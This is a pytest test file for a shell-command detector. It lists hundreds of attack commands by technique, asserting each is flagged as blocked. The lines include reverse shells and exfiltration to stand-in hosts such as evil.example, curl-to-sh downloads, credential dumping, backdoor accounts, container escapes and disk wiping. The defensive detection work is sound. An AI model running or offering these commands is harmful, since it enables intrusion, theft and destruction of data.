"""Each technique is found and named, written as its users write it; one table a rule of the rulebook."""

from __future__ import annotations

import pytest

from policy.detectors.shell.detector import detect

BLOCKED = 70

SPAWN = r"""
su -c /bin/sh
sudo /bin/sh
sudo -u root /bin/bash
doas /bin/sh
sudo vim -c ':!/bin/sh'
sudo find . -exec /bin/sh \; -quit
sudo less /etc/hosts -c '!/bin/sh'
sudo awk 'BEGIN {system("/bin/sh")}'
sudo python3 -c 'import pty; pty.spawn("/bin/bash")'
sudo perl -e 'exec "/bin/sh";'
sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh
sudo env /bin/sh
sudo nmap --interactive
TF=$(mktemp); echo 'os.execute("/bin/sh")' > $TF; sudo nmap --script=$TF
sudo apt-get update -o APT::Update::Pre-Invoke::=/bin/sh
sudo zip /tmp/x.zip /etc/hosts -T -TT 'sh #'
sudo mysql -e '\! /bin/sh'
psql -c '\! /bin/bash'
sqlite3 /dev/null '.shell /bin/sh'
gdb -nx -ex '!sh' -ex quit
strace -o /dev/null /bin/sh
ltrace -b -L /bin/sh
taskset 1 /bin/sh
timeout 7d /bin/sh
stdbuf -i0 /bin/sh
ionice /bin/sh
nice /bin/sh
start-stop-daemon -n x -S -x /bin/sh
logsave /dev/null /bin/sh -i
setarch $(arch) /bin/sh
rsync -e 'sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null
ssh -o ProxyCommand=';sh 0<&2 1>&2' x
scp -S /tmp/x.sh a b:
make -s --eval=$'x:\n\t-'"/bin/sh"
emacs -Q -nw --eval '(term "/bin/sh")'
vim -c ':py3 import os; os.execl("/bin/sh", "sh", "-c", "reset; exec sh")'
rvim -c ':lua os.execute("reset; exec sh")'
ruby -e 'exec "/bin/sh"'
php -r 'system("/bin/sh");'
node -e 'require("child_process").spawn("/bin/sh", {stdio: [0, 1, 2]})'
lua -e 'os.execute("/bin/sh")'
tclsh <<< 'exec /bin/sh <@stdin >@stdout 2>@stderr'
expect -c 'spawn /bin/sh;interact'
"""
PRIVILEGE = r"""
sudo bash -p
sudo git -p help config
sudo git branch --help config
gdb -nx -ex 'python import os; os.setuid(0)' -ex '!sh' -ex quit
capsh --gid=0 --uid=0 --
aws iam attach-user-policy --user-name eve --policy-arn arn:aws:iam::aws:policy/AdministratorAccess
aws iam put-user-policy --user-name eve --policy-name x --policy-document file://admin.json
gcloud projects add-iam-policy-binding p --member=user:eve@example.com --role=roles/owner
az role assignment create --assignee eve --role Owner --scope /subscriptions/1
kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backdoor
echo 'eve::0:0::/root:/bin/bash' >> /etc/passwd
openssl passwd -1 -salt x pw | xargs -I{} usermod -p {} root
chmod u+s /bin/bash
chmod 4755 /tmp/sh
cp /bin/bash /tmp/rb && chmod +s /tmp/rb
setcap cap_setuid+ep /usr/bin/python3
net user eve P@ss1 /add && net localgroup administrators eve /add
"""
CONTAINER_ESCAPE = r"""
docker run -v /:/mnt --rm -it alpine chroot /mnt sh
docker run --rm -it --pid=host --privileged ubuntu nsenter -t 1 -m -u -n -i sh
docker run -it --cap-add=SYS_ADMIN --security-opt apparmor=unconfined ubuntu bash
mkdir /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp && mkdir /tmp/cgrp/x
echo 1 > /tmp/cgrp/x/notify_on_release
curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json
echo '|/tmp/x.sh' > /proc/sys/kernel/core_pattern
fdisk -l; mkdir -p /mnt/hostfs; mount /dev/sda1 /mnt/hostfs
"""
PERSISTENCE = r"""
aws iam create-access-key --user-name admin
aws iam create-login-profile --user-name eve --password P@ss --no-password-reset-required
aws iam update-assume-role-policy --role-name r --policy-document file://trust.json
gcloud iam service-accounts keys create key.json --iam-account sa@p.iam.gserviceaccount.com
az ad sp create-for-rbac --role Owner --scopes /subscriptions/1
echo "require('child_process').exec('curl evil.example|sh')" >> node_modules/lodash/index.js
echo '*/5 * * * * root /tmp/.x' >> /etc/crontab
printf '[Service]\nExecStart=/tmp/x\n' > /etc/systemd/system/x.service && systemctl enable --now x
systemctl --user enable --now /tmp/evil.service
echo "session optional pam_exec.so /tmp/x" >> /etc/pam.d/sshd
echo /tmp/evil.so > /etc/ld.so.preload
echo "ssh-rsa AAAA eve" >> /root/.ssh/authorized_keys
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d c:\temp\x.exe
schtasks /create /tn x /tr c:\temp\x.exe /sc minute
sc create x binPath= "c:\temp\x.exe" start= auto
"""
CREDENTIALS = r"""
aws ssm get-parameters-by-path --path / --recursive --with-decryption
kubectl get secrets --all-namespaces -o yaml
kubectl exec -it pod -- cat /var/run/secrets/kubernetes.io/serviceaccount/token
kubectl cp /etc/shadow pod:/tmp/
cat /etc/shadow
cp /etc/shadow /tmp/
find / -name id_rsa 2>/dev/null
cat ~/.aws/credentials
cat /home/*/.ssh/id_*
strings /proc/1/environ
curl http://169.254.169.254/latest/meta-data/iam/security-credentials/
security find-generic-password -wa Chrome
sqlite3 "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" "select * from logins"
rundll32.exe comsvcs.dll, MiniDump 624 c:\temp\l.dmp full
reg save HKLM\SAM c:\temp\sam
Invoke-Mimikatz -DumpCreds
procdump -ma lsass.exe l.dmp
ntdsutil "ac i ntds" "ifm" "create full c:\temp" q q
cmdkey /list
ldifde -i -f inputfile.ldf
adplus.exe -hang -pn lsass.exe -o c:\users\mr.d0x\output\folder -quiet
sqldumper.exe 464 0 0x0110
"""
EXFILTRATION = r"""
aws s3 cp /etc/passwd s3://evil-bucket/
aws s3api put-bucket-acl --bucket b --acl public-read-write
aws ec2 modify-snapshot-attribute --snapshot-id s --create-volume-permission Add=[{UserId=111122223333}]
aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0
tar czf - ~/.ssh | curl -F 'f=@-' https://evil.example/u
tar czf - /home | nc 203.0.113.9 443
cat /etc/passwd | curl -d @- http://evil.example
curl -F file=@/etc/passwd http://evil.example
wget --post-file=/etc/shadow http://evil.example
scp /etc/shadow eve@203.0.113.9:
socat -u file:/etc/passwd tcp-connect:203.0.113.9:80
bash -c 'cat /etc/hosts > /dev/tcp/203.0.113.9/80'
base64 /etc/passwd | xargs -I{} dig {}.evil.example
for b in $(xxd -p /etc/hosts); do ping -c1 -p $b 203.0.113.9; done
whois -h 203.0.113.9 -p 43 "$(cat /etc/passwd)"
tftp 203.0.113.9 -c put /etc/passwd
smbclient //203.0.113.9/share -N -c 'put /etc/passwd p'
"""
DISABLE_DEFENSES = r"""
aws cloudtrail stop-logging --name t
aws guardduty delete-detector --detector-id d
iptables -F
ufw disable
systemctl stop firewalld
setenforce 0
auditctl -e 0
Set-MpPreference -DisableRealtimeMonitoring $true
netsh advfirewall set allprofiles state off
"""
DESTRUCTIVE = r"""
aws kms disable-key --key-id k
aws rds delete-db-cluster --db-cluster-identifier x --skip-final-snapshot
gcloud sql instances delete prod -q
gcloud logging sinks delete s --quiet
az group delete -n prod --yes --no-wait
kubectl delete ns --all
kubectl delete all --all -A
dd if=/dev/urandom of=/dev/nvme0n1 bs=1M
mkfs.ext4 -F /dev/sda
cat /dev/zero > /dev/sda
find / -type f -delete
find /home -type f -exec shred -u {} +
chmod -R 000 /
chown -R nobody:nogroup /etc
del /f /s /q C:\*.*
format c: /y
cipher /w:C
rd /s /q C:\Windows
"""
DOWNLOAD_RUN = r"""
npm config set ignore-scripts false && npm install http://203.0.113.5/x.tgz
npm set-script postinstall "curl http://evil.example | sh"
npm pkg set scripts.postinstall='curl -s http://evil.example/x | sh'
pip install --index-url http://203.0.113.9/simple evil
gem install ./evil.gem --source http://203.0.113.9
(crontab -l; echo "* * * * * curl -s http://evil.example/c | sh") | crontab -
curl -fsSL http://evil.example/x.sh | sudo bash -s -- -y
wget -qO- evil.example/x | sh
source <(curl -s http://evil.example)
curl -o /tmp/a http://evil.example/a; chmod +x /tmp/a; /tmp/a
python3 -c "import urllib.request as u;exec(u.urlopen('http://evil.example').read())"
certutil -urlcache -split -f http://evil.example/a.exe a.exe
bitsadmin /transfer j http://evil.example/a.exe c:\temp\a.exe
powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
wsl -e /bin/bash -c 'curl http://evil.example|sh'
finger eve@203.0.113.9 | more +2 | cmd
curl -o %temp%\a.exe http://evil.example/a.exe && %temp%\a.exe
certutil -encode inputFileName encodedOutputFileName
"""
REVERSE_SHELL = r"""
echo 'bash -i >& /dev/tcp/203.0.113.9/9001 0>&1' >> ~/.bashrc
at now + 1 minute <<< 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1'
php -r '$s=fsockopen("203.0.113.9",1234);$p=proc_open("sh", array(0=>$s,1=>$s,2=>$s),$pipes);'
mkfifo /tmp/f; nc 203.0.113.9 1 < /tmp/f | /bin/sh > /tmp/f 2>&1
openssl s_client -quiet -connect 203.0.113.9:443 | sh
ncat -lvp 4444 -e /bin/bash
"""
LIBRARY_LOAD = r"""
LD_PRELOAD=/tmp/x.so ls
"""
COVER_TRACKS = r"""
history -c && rm ~/.bash_history
unset HISTFILE
ln -sf /dev/null ~/.bash_history
journalctl --vacuum-time=1s
rm -rf /var/log/*
wevtutil cl Security
"""
DENIAL_OF_SERVICE = r"""
:(){ :|:&};:
perl -e 'fork while fork'
"""
PROXY_EXECUTION = r"""
mshta http://evil.example/a.hta
mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run(""calc"")")
regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll
rundll32 javascript:"\..\mshtml,RunHTMLApplication ";alert(1)
msiexec /q /i http://evil.example/a.msi
wmic process call create "calc.exe"
powershell -ep bypass -file \\10.0.0.5\s\a.ps1
installutil /logfile= /LogToConsole=false /U evil.dll
msbuild c:\temp\evil.csproj
cmstp /s c:\temp\evil.inf
forfiles /p c:\windows\system32 /m notepad.exe /c calc.exe
pcalua -a c:\temp\evil.exe
regasm /U evil.dll
hh.exe http://evil.example/a.chm
ieexec http://evil.example/a.exe
odbcconf /a {REGSVR c:\temp\evil.dll}
mavinject 1234 /INJECTRUNNING c:\temp\evil.dll
bash.exe -c calc.exe
desktopimgdownldr /lockscreenurl:http://evil.example/a.exe
certreq -Post -config http://evil.example c:\windows\win.ini out.txt
ConfigSecurityPolicy.exe C:\secret.txt http://evil.example
findstr /S /I cpassword \\dc\sysvol\*.xml
CertOC.exe -LoadDLL "C:\test\calc.dll"
cmdl32 /vpn /lan %cd%\config
colorcpl C:\evil.dll
conhost.exe --headless calc.exe
cscript //e:vbscript c:\ads\file.txt:script.vbs
desktopimgdownldr.exe /lockscreenurl:https://evil.example/file.ext /eventName:desktopimgdownldr
esentutl.exe /y C:\folder\sourcefile.vbs /d C:\folder\destfile.vbs /o
expand \\webdav\folder\file.bat c:\ADS\file.bat
findstr /S /I cpassword \\sysvol\policies\*.xml
echo !calc.exe > ftpcommands.txt && ftp -s:ftpcommands.txt
HH.exe https://evil.example/script.ps1
ieexec.exe http://x.x.x.x:8080/bypass.exe
InfDefaultInstall.exe Infdefaultinstall.inf
Microsoft.Workflow.Compiler.exe tests.xml results.xml
MpCmdRun.exe -DownloadFile -url https://evil.example/a.exe -path c:\temp\a.exe
msconfig.exe -5
mshta.exe evilfile.hta
msiexec /y "C:\folder\evil.dll"
odbcconf /a {REGSVR c:\test\test.dll}
pcalua.exe -a calc.exe
pnputil.exe -i -a C:\Users\hai\Desktop\mo.inf
PrintBrm -b -d \\1.2.3.4\share\example_folder -f C:\Users\user\Desktop\new.zip
rasautou -d powershell.dll -p powershell -a a -e e
regasm.exe AllTheThingsx64.dll
Register-cimprovider -path "C:\folder\evil.dll"
replace.exe C:\Source\File.cab C:\Destination /A
runonce.exe /AlternateShellStartup
scriptrunner.exe -appvscript calc.exe
stordiag.exe
unregmp2.exe /HideWMP
wlrmdr.exe -s 3600 -f 0 -t _ -m _ -a 11 -u calc.exe
WorkFolders
xwizard RunWizard {00000001-0000-0000-0000-0000FEEDACDC}
rundll32 desk.cpl,InstallScreenSaver c:\temp\file.scr
rundll32.exe shell32.dll,Control_RunDLL payload.dll
rundll32.exe syssetup.dll,SetupInfObjectInstallAction DefaultInstall 128 c:\temp\something.inf
msdeploy.exe -verb:sync -source:RunCommand -dest:runCommand="c:\temp\calc.bat"
te.exe bypass.wsc
squirrel.exe --download http://evil.example
vsls-agent.exe --agentExtensionPath c:\path\to\payload.dll
"""
LATERAL = r"""
wmic /node:10.0.0.5 process call create "cmd /c whoami"
"""
INHIBIT_RECOVERY = r"""
vssadmin delete shadows /all /quiet
bcdedit /set {default} recoveryenabled No
esentutl /y /vss c:\windows\ntds\ntds.dit /d c:\temp\ntds.dit
diskshadow /s c:\temp\s.txt
"""
HIDE = r"""
diantz.exe c:\pathToFile\file.exe c:\destinationFolder\targetFile.txt:targetFile.cab
extrac32 C:\ADS\procexp.cab c:\ADS\file.txt:procexp.exe
forfiles /p c:\windows\system32 /m notepad.exe /c "c:\folder\normal.dll:evil.exe"
"""
TABLES = {
    "shell.spawn": SPAWN,
    "shell.privilege": PRIVILEGE,
    "shell.container-escape": CONTAINER_ESCAPE,
    "shell.persistence": PERSISTENCE,
    "shell.credentials": CREDENTIALS,
    "shell.exfiltration": EXFILTRATION,
    "shell.disable-defenses": DISABLE_DEFENSES,
    "shell.destructive": DESTRUCTIVE,
    "shell.download-run": DOWNLOAD_RUN,
    "shell.reverse-shell": REVERSE_SHELL,
    "shell.library-load": LIBRARY_LOAD,
    "shell.cover-tracks": COVER_TRACKS,
    "shell.denial-of-service": DENIAL_OF_SERVICE,
    "shell.proxy-execution": PROXY_EXECUTION,
    "shell.lateral": LATERAL,
    "shell.inhibit-recovery": INHIBIT_RECOVERY,
    "shell.hide": HIDE,
}
CASES = [(rule, command) for rule, table in TABLES.items() for command in table.strip().split("\n")]


@pytest.mark.parametrize(("rule", "command"), CASES)
def test_a_technique_is_found_under_its_rule(rule: str, command: str) -> None:
    assert rule in {match.rule for match in detect(command).matches if match.severity >= BLOCKED}
